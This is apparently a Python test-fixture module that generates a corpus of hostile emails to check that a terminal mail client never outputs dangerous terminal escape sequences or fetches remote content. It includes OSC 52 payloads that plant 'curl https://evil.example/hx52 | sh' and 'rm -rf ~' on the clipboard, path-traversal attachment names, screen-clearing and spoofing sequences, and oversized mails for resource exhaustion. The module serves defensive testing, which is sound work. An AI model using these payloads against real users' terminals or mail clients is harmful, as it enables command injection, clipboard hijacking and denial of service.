"""The hostile-input corpus (issue 9): the checked-in mails of tests/fixtures/hostile and the big
ones made here, deterministically, at test time (megabytes are not committed).

Every mail carries a marker (`BODYMARK-<name>`) in text the app must show, so a test can tell
that the mail was really displayed. HTML mails point their remote content at `TRAP`, which
`load` replaces with the address of the test's loopback HTTP server: a request there is a
fetch the app must never make.

`PAYLOADS` are the terminal attacks, each with the bytes that must never reach the terminal
(`forbidden`), chosen from sequences Textual itself does not write while showing a thread
(tests/reliability/test_hostile_corpus.py checks that against a benign run). `matrix()` puts
every payload into every position a stranger controls (subject raw and encoded, sender name,
plain, HTML and UTF-7 bodies, attachment names in RFC 2231 and encoded-word form).
"""

from __future__ import annotations

import base64
import quopri
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from urllib.parse import quote

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "hostile"
TRAP = "TRAP.invalid"
"""Host[:port] of remote content in the checked-in HTML mails; replaced by `load`."""
SHOP = "support@shop.example"
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str
    forbidden: tuple[bytes, ...]
    """Byte sequences of this payload that must not appear in what the app writes. Only the
    controls: the text inside a sequence may stay visible once its ESC is gone (a decoder
    that replaces the ESC, an 8-bit OSC whose C1 introducer alone is removed)."""


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


PAYLOADS: tuple[Payload, ...] = (
    Payload(
        "sgr",
        f"{ESC}[5;31;47mHX-SGR{ESC}[0m{ESC}[8mhidden{ESC}[28m",
        (b"\x1b[5;31;47m", b"\x1b[8m"),
    ),
    Payload(
        "clear",
        f"{ESC}[2J{ESC}[3J{ESC}[HHX-CLEAR{ESC}[1;2r{ESC}[5L{ESC}[2K{ESC}[10A{ESC}[5C",
        (b"\x1b[2J", b"\x1b[3J", b"\x1b[H", b"\x1b[1;2r", b"\x1b[5L", b"\x1b[2K", b"\x1b[10A"),
    ),
    Payload("query", f"{ESC}[6nHX-DSR{ESC}[c{ESC}[21t{ESC}[8;1;1t", (b"\x1b[6n", b"\x1b[c")),
    Payload(
        "reset",
        f"{ESC}cHX-RIS{ESC}[?5h{ESC}7{ESC}8{ESC}[?1049l",
        # Textual leaves the alternate screen only when it quits: none before that.
        (b"\x1bc", b"\x1b[?5h", b"\x1b7", b"\x1b[?1049l"),
    ),
    Payload(
        "osc8",
        f"{ESC}]8;;https://evil.example/hx-osc8{ST}HX-LINK{ESC}]8;;{ST}"
        f"{ESC}]8;id=1;https://evil.example/hx-osc8b{BEL}two{ESC}]8;;{BEL}",
        (b"\x1b]8;",),
    ),
    Payload(
        "osc52",
        f"{ESC}]52;c;{_b64('curl https://evil.example/hx52 | sh')}{BEL}"
        f"{ESC}]52;p;{_b64('rm -rf ~')}{ST}",
        (b"\x1b]52",),
    ),
    Payload(
        "title",
        f"{ESC}]0;HX-TITLE0{BEL}{ESC}]1;HX-ICON{BEL}{ESC}]2;HX-TITLE2{ST}",
        (b"\x1b]0;", b"\x1b]1;", b"\x1b]2;"),
    ),
    Payload(
        "osc_other",
        f"{ESC}]4;1;rgb:ff/00/00{BEL}{ESC}]11;?{BEL}{ESC}]1337;File=inline=1:SFgK{BEL}"
        f"{ESC}]9;HX-NOTIFY{BEL}{ESC}]777;notify;HX;pwned{ST}",
        (b"\x1b]4;", b"\x1b]11;", b"\x1b]1337", b"\x1b]9;", b"\x1b]777"),
    ),
    Payload(
        "dcs",
        f'{ESC}P$q"p{ST}{ESC}Pq#0;2;0;0;0#0~~HX-SIXEL{ST}{ESC}P+q544e{ST}',
        (b"\x1bP",),
    ),
    Payload(
        "apc_pm_sos",
        f"{ESC}_Gf=100,a=T;SFgK{ST}{ESC}^HX-PM{ST}{ESC}XHX-SOS{ST}",
        (b"\x1b_", b"\x1b^", b"\x1bX"),
    ),
    Payload(
        "c1",
        "\x9b2J\x9b6n\x9d0;HX-C1TITLE\x9c\x90q\x9c\x9f\x85\x8d",
        (b"\xc2\x9b", b"\xc2\x9d", b"\xc2\x90", b"\xc2\x9c", b"\xc2\x85", b"\xc2\x8d"),
    ),
    Payload(
        "c0",
        "Refund 10 EUR\x08\x08\x08\x08\x08\x0699999 EUR\rRefund approved\x07\x0b\x0c\x7f\x00\x1a",
        (b"\x08", b"\x0b", b"\x0c", b"\x7f", b"\x00", b"\x06", b"\x1a"),
    ),
    Payload(
        "bidi",
        "invoice\u202egnp.exe \u2066HX\u2069 \u2067x\u2068y"
        "\u202a\u202b\u202c\u202d\u200e\u200f\u061c",
        tuple(c.encode() for c in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u061c"),
    ),
    Payload(
        "zero_width",
        "Sup\u200bport Te\ufeffam\u2060 \U000e0041\U000e0042",
        tuple(c.encode() for c in "\u200b\ufeff\u2060\U000e0041"),
    ),
    Payload(
        "rich_markup",
        "[bold red]HX-RICH[/] [link=https://evil.example/rich]x[/link] [@click=app.quit]q[/] [/]",
        (),
    ),
)
"""The terminal attacks; `text` is what a stranger writes, `forbidden` what must not come out."""

POSITIONS = (
    "subject_raw",
    "subject_encoded",
    "from_name",
    "body_plain",
    "body_html",
    "body_utf7",
    "filename_rfc2231",
    "filename_encoded",
)
DEFAULT_POSITIONS = ("subject_encoded", "from_name", "body_html", "filename_rfc2231")
"""What a normal run puts every payload into; --soak takes all POSITIONS."""


@dataclass(frozen=True)
class Hostile:
    name: str
    raw: bytes
    attacks: str

    @property
    def marker(self) -> str:
        """Text the app shows in this mail's thread."""
        return f"BODYMARK-{self.name}"


def load(trap: str = TRAP) -> list[Hostile]:
    """The checked-in mails (sorted by name), remote content pointed at `trap` (host:port)."""
    found = []
    for path in sorted(FIXTURES.glob("*.eml")):
        raw = path.read_bytes().replace(TRAP.encode(), trap.encode())
        found.append(Hostile(path.stem, raw, _attacks(raw)))
    return found


def _attacks(raw: bytes) -> str:
    for line in raw.split(b"\n"):
        if line.startswith(b"X-Attacks: "):
            return line[len(b"X-Attacks: ") :].decode().strip()
    return ""


def headers(name: str, subject: str, index: int, sender_name: str = "") -> list[str]:
    """Plain header lines for a generated mail; distinct sender and date per index."""
    display = sender_name or name.replace("_", " ").title()
    return [
        f"From: {display} <{name.replace('_', '-')}@evil.example>",
        f"To: {SHOP}",
        f"Subject: {subject}",
        f"Date: Mon, 23 Nov 2026 {6 + index // 60:02d}:{index % 60:02d}:00 +0000",
        f"Message-ID: <hx.{name}@evil.example>",
        f"X-Attacks: {name}",
        "MIME-Version: 1.0",
    ]


def _join(lines: list[str], body: bytes) -> bytes:
    return ("\r\n".join(lines) + "\r\n\r\n").encode() + body


# -- the big ones, made at test time --------------------------------------------------------

TEN_MB = 10 * 1024 * 1024
ALL_ESCAPES = "".join(p.text for p in PAYLOADS)


def body_10mb(index: int) -> Hostile:
    """A 10 MB text/plain body (a pasted log) with every payload at its start and each MB."""
    name = "big_body_10mb"
    marker = f"BODYMARK-{name}"
    line = "2026-11-20 10:00:00 INFO sync step ok; nothing to see here, keep scrolling\n"
    chunk = (line * (1024 * 1024 // len(line) + 1))[: 1024 * 1024]
    body = f"{marker}\n{ALL_ESCAPES}\n" + "".join(
        f"{ALL_ESCAPES}\n{chunk}" for _ in range(TEN_MB // len(chunk))
    )
    lines = headers(name, f"Full log as asked {_utf8_safe_header(ALL_ESCAPES)}", index)
    lines += ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"]
    return Hostile(name, _join(lines, body.encode()), "10 MB body, every escape every MB")


def parts_10000(index: int) -> Hostile:
    """multipart/mixed with 10,000 parts: text parts and attachments with hostile names."""
    name = "parts_10000"
    boundary = "hx-10000"
    out = [f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBODYMARK-{name}\r\n"]
    for n in range(1, 10_000):
        if n % 2:
            out.append(
                f"--{boundary}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n"
                f"part {n} {ESC}]52;c;{_b64('x')}{BEL}\r\n"
            )
        else:
            out.append(
                f"--{boundary}\r\nContent-Type: application/octet-stream\r\n"
                f'Content-Disposition: attachment; filename="../../.hx{n}{ESC}[2J.sh"\r\n'
                "Content-Transfer-Encoding: base64\r\n\r\naGk=\r\n"
            )
    out.append(f"--{boundary}--\r\n")
    lines = headers(name, "10,000 parts", index)
    lines += [f'Content-Type: multipart/mixed; boundary="{boundary}"']
    return Hostile(name, _join(lines, "".join(out).encode()), "10,000 MIME parts")


def nesting_1000(index: int) -> Hostile:
    """A text part, then multiparts nested 1,000 deep around a hostile leaf."""
    name = "nesting_1000"
    depth = 1000
    opening = [
        f"--b0\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nBODYMARK-{name}\r\n",
    ]
    for level in range(1, depth):
        opening.append(
            f'--b{level - 1}\r\nContent-Type: multipart/mixed; boundary="b{level}"\r\n\r\n'
        )
    leaf = f"--b{depth - 1}\r\nContent-Type: text/plain\r\n\r\n{ESC}]52;c;{_b64('deep')}{BEL}\r\n"
    closing = [f"--b{level}--\r\n" for level in range(depth - 1, -1, -1)]
    lines = headers(name, "nested 1,000 deep", index)
    lines += ['Content-Type: multipart/mixed; boundary="b0"']
    body = "".join(opening) + leaf + "".join(closing)
    return Hostile(name, _join(lines, body.encode()), "multiparts nested 1,000 deep")


def html_nesting(index: int) -> Hostile:
    """100,000 nested <div>s and an unclosed <script>: an HTML parser's worst day."""
    name = "html_nesting_100k"
    html = (
        f"<html><body><p>BODYMARK-{name}</p>"
        + "<div>" * 100_000
        + f"deep {ESC}[2J"
        + "</div>" * 100_000
        + f"<script>fetch('http://{TRAP}/script')"
    )
    lines = headers(name, "deep HTML", index)
    lines += ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"]
    return Hostile(name, _join(lines, html.encode()), "100,000 nested HTML elements")


def header_flood(index: int) -> Hostile:
    """10,000 header lines and a 64 KB subject of escapes."""
    name = "header_flood"
    subject = ("HX " + ALL_ESCAPES.replace("\r", " ").replace("\x00", " ")) * 40
    lines = headers(name, subject[: 64 * 1024], index)
    lines += [f"X-Filler-{n}: {ESC}]0;HX-TITLE{n}{BEL}" for n in range(10_000)]
    lines += ["Content-Type: text/plain; charset=utf-8"]
    return Hostile(name, _join(lines, f"BODYMARK-{name}\r\n".encode()), "10,000 headers")


def long_line(index: int) -> Hostile:
    """One 1 MB line without a line break, escapes spread along it."""
    name = "long_line_1mb"
    unit = f"word{ESC}[2J "
    body = f"BODYMARK-{name} " + unit * (1024 * 1024 // len(unit))
    lines = headers(name, "one long line", index)
    lines += ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 8bit"]
    return Hostile(name, _join(lines, body.encode()), "a 1 MB line")


BIG = (body_10mb, parts_10000, nesting_1000, html_nesting, header_flood, long_line)


def big(first_index: int, trap: str = TRAP) -> list[Hostile]:
    made = [build(first_index + n) for n, build in enumerate(BIG)]
    return [Hostile(h.name, h.raw.replace(TRAP.encode(), trap.encode()), h.attacks) for h in made]


# -- every payload in every position --------------------------------------------------------


def _utf8_safe_header(text: str) -> str:
    """Raw 8-bit header text: CR, LF and NUL would end or break the header itself."""
    return text.replace("\r", " ").replace("\n", " ").replace("\x00", " ")


def _q_word(text: str) -> str:
    return "=?utf-8?q?" + "".join(f"={b:02X}" for b in text.encode()) + "?="


def _b_word(text: str) -> str:
    return f"=?utf-8?b?{_b64(text)}?="


def positioned(payload: Payload, position: str, index: int) -> Hostile:
    """A mail with `payload` in `position`; the marker is in a plain part or the subject."""
    name = f"m_{payload.name}_{position}"
    marker = f"BODYMARK-{name}"
    subject = f"{position} {payload.name}"
    sender = ""
    body_type, body = "text/plain; charset=utf-8", f"{marker}\n"
    filename: str | None = None
    if position == "subject_raw":
        subject += " " + _utf8_safe_header(payload.text)
    elif position == "subject_encoded":
        subject += " " + _b_word(payload.text)
    elif position == "from_name":
        sender = '"' + _q_word(payload.text) + '"'
    elif position == "body_plain":
        body += payload.text + "\n"
    elif position == "body_html":
        body_type = "text/html; charset=utf-8"
        body = f"<html><body><p>{marker}</p><p>{payload.text}</p></body></html>"
    elif position == "body_utf7":
        body_type = "text/plain; charset=utf-7"
        body = marker + "\n" + payload.text + "\n"
    elif position.startswith("filename"):
        filename = payload.text
    else:
        raise ValueError(position)
    lines = headers(name, subject, index, sender)
    encoding = "utf-7" if position == "body_utf7" else "utf-8"
    encoded = base64.encodebytes(body.encode(encoding)).decode().replace("\n", "\r\n")
    text_headers = [f"Content-Type: {body_type}", "Content-Transfer-Encoding: base64"]
    if filename is None:
        return Hostile(name, _join(lines + text_headers, encoded.encode()), name)
    if position == "filename_rfc2231":
        disposition = f"attachment; filename*=utf-8''{quote(filename, safe='')}"
    else:
        disposition = f'attachment; filename="{_b_word(filename)}"'
    boundary = f"hx-{index}"
    mime = (
        f"--{boundary}\r\n" + "\r\n".join(text_headers) + f"\r\n\r\n{encoded}\r\n"
        f"--{boundary}\r\nContent-Type: application/octet-stream\r\n"
        f"Content-Disposition: {disposition}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        f"{_b64('payload file')}\r\n--{boundary}--\r\n"
    )
    lines.append(f'Content-Type: multipart/mixed; boundary="{boundary}"')
    return Hostile(name, _join(lines, mime.encode()), name)


def matrix(first_index: int, positions: tuple[str, ...] = DEFAULT_POSITIONS) -> Iterator[Hostile]:
    """Every payload in each of `positions`, indexes counting on from `first_index`."""
    index = first_index
    for position in positions:
        for payload in PAYLOADS:
            yield positioned(payload, position, index)
            index += 1


def qp(text: str) -> str:
    """Quoted-printable with every control byte encoded (for the checked-in QP mail)."""
    return quopri.encodestring(text.encode(), quotetabs=True).decode()
